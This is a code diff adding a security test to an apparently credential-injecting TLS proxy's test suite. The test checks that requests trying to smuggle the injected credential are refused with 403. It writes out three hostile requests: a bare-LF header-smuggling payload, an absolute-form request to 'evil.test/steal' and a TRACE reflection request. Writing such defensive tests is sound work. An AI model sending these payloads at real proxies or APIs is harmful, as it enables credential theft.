@@ -166,6 +166,42 @@ def test_the_placeholder_anywhere_else_is_an_alert(proxy, pki):
     assert verdicts.count("alert") == 3
 
 
+def raw_tls(port, trust, sni, request):
+    """Send request bytes as they are; the proxy's answer."""
+    ctx = ssl.create_default_context(cafile=str(trust))
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as raw:
+        with ctx.wrap_socket(raw, server_hostname=sni) as t:
+            t.sendall(request)
+            data = b""
+            while True:
+                try:
+                    chunk = t.recv(65536)
+                except ssl.SSLZeroReturnError:
+                    break
+                if not chunk:
+                    break
+                data += chunk
+    return data.decode(errors="replace")
+
+
+def test_smuggling_the_credential_into_a_body_or_elsewhere_is_refused(proxy, pki):
+    """From a review: a bare LF ended the headers for the upstream but not for us, so the
+    rewritten credential landed in a body the API would echo; an https:// target, or TRACE,
+    would send it elsewhere or back."""
+    p = proxy()
+    ca = pki / "sandbox" / "ca.pem"
+    attempts = [
+        (f"POST /store HTTP/1.1\r\nHost: api.test\r\nContent-Length: 40\r\n"
+         f"Authorization: Bearer {PH}\n\nstolen={PH}\r\n\r\n" + "x" * 40).encode(),
+        f"GET https://evil.test/steal HTTP/1.1\r\nHost: api.test\r\nAuthorization: {PH}\r\n"
+        "\r\n".encode(),
+        f"TRACE / HTTP/1.1\r\nHost: api.test\r\nAuthorization: {PH}\r\n\r\n".encode(),
+    ]
+    for req in attempts:
+        reply = raw_tls(p.tls, ca, "api.test", req)
+        assert " 403 " in reply.split("\r\n", 1)[0] and REAL not in reply, (req, reply)
+
+
 def test_host_must_match_the_tls_server_name(proxy, pki):
     p = proxy()
     status, body = https_get(p.tls, pki / "sandbox" / "ca.pem", "api.test",
